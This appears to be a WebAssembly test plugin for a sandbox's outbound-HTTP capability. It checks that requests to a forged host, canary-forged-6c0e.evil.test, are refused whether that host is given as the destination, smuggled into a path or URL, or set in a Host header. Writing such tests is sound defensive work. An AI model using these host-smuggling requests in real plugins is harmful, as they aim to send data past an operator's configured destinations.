;; attacks = [35]
;; does = "a sink that would tell by looking names up: as destination, as host within a path, as header"
;; role = "sink"
;; asks = ["outbound-http"]
;; counts = { http-header = 2, http-path = 4, http-requests = 6, http-unknown-destination = 2 }
;; goes-on = "there is nothing to look names up with, and nothing is looked up but what the operator configured"
;; -- imports
(import "bulkhead:plugin/outbound-http@0.1.0" "send"
  (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
;; -- items
(data (i32.const 4096) "dwh")
(data (i32.const 8192) "canary-forged-6c0e.evil.test")
(data (i32.const 8256) "//canary-forged-6c0e.evil.test/ok")
(data (i32.const 8320) "http://canary-forged-6c0e.evil.test/ok")
(data (i32.const 8384) "/ok")
(data (i32.const 8448) "host")
;; -- on-batch
(call $send (i32.const 8192) (i32.const 28) (i32.const 1) (i32.const 8384) (i32.const 3)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 2048))
(if (i32.ne (i32.load8_u (i32.const 2048)) (i32.const 1)) (then (unreachable)))
(if (i32.ne (i32.load8_u (i32.const 2052)) (i32.const 0)) (then (unreachable)))
(call $send (i32.const 4096) (i32.const 3) (i32.const 1) (i32.const 8256) (i32.const 33)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 2048))
(if (i32.ne (i32.load8_u (i32.const 2048)) (i32.const 1)) (then (unreachable)))
(if (i32.ne (i32.load8_u (i32.const 2052)) (i32.const 2)) (then (unreachable)))
(call $send (i32.const 4096) (i32.const 3) (i32.const 1) (i32.const 8320) (i32.const 38)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 2048))
(if (i32.ne (i32.load8_u (i32.const 2048)) (i32.const 1)) (then (unreachable)))
(if (i32.ne (i32.load8_u (i32.const 2052)) (i32.const 2)) (then (unreachable)))
(i32.store (i32.const 12288) (i32.const 8448))
(i32.store (i32.const 12292) (i32.const 4))
(i32.store (i32.const 12296) (i32.const 8192))
(i32.store (i32.const 12300) (i32.const 28))
(call $send (i32.const 4096) (i32.const 3) (i32.const 1) (i32.const 8384) (i32.const 3)
  (i32.const 12288) (i32.const 1) (i32.const 0) (i32.const 0) (i32.const 0)
  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 2048))
(if (i32.ne (i32.load8_u (i32.const 2048)) (i32.const 1)) (then (unreachable)))
(if (i32.ne (i32.load8_u (i32.const 2052)) (i32.const 3)) (then (unreachable)))
